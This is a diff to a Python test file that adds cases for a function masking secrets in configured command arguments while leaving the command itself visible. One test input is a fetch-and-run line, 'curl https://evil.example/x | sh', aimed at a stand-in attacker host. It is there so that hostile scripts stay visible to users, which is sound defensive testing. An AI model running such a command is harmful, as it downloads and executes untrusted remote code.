@@ -16,7 +16,7 @@ from gloveport.config.clients.apply import apply, target
 from gloveport.config.clients.places import CLIENTS, Place, named_place, project_places, user_places
 from gloveport.config.clients.plan import Here, plan
 from gloveport.config.clients.reading import MAX_BYTES, MAX_ENTRIES, Entry, read_entries
-from gloveport.config.clients.secrets import is_harmless, is_harmless_address, is_harmless_argument
+from gloveport.config.clients.secrets import is_harmless, is_harmless_address, is_harmless_argument, masked_argument
 from gloveport.errors import ConfigError
 
 FILES = Path(__file__).parent / "clients"
@@ -427,6 +427,23 @@ def test_random_keys_are_never_harmless(rng: random.Random, alphabet):
 )
 def test_arguments_that_may_be_secrets_are_known_by_their_names(before, argument):
     assert not is_harmless_argument(before, argument)
+
+
+@pytest.mark.parametrize(
+    ("before", "argument", "shown"),
+    [
+        ("-c", "curl https://evil.example/x | sh", "curl https://evil.example/x | sh"),
+        ("-c", "KEY=abcd1234efgh run --fast", "KEY=••• run --fast"),
+        ("-H", "Authorization: Bearer lin_api_8f7d6c5b", "Authorization: ••• •••"),
+        ("--dsn", "Server=db;Password=hunter2", "•••"),
+        ("--config", "Server=db;Password=hunter2", "Server=db;Password=•••"),
+        ("--db", "postgres://ada:s3cr3t-Pa55@localhost/app", "•••"),
+        ("--pass", "correct horse", "•••"),
+    ],
+)
+def test_what_a_command_does_is_shown_and_only_its_secrets_are_hidden(before, argument, shown):
+    """T4: a hostile file's script would be hidden with them."""
+    assert masked_argument(before, argument) == shown
 
 
 @pytest.mark.parametrize("argument", ["-y", "--rm", "@org/server-github@1.2.3", "/srv/data", "--port=80", "stdio"])
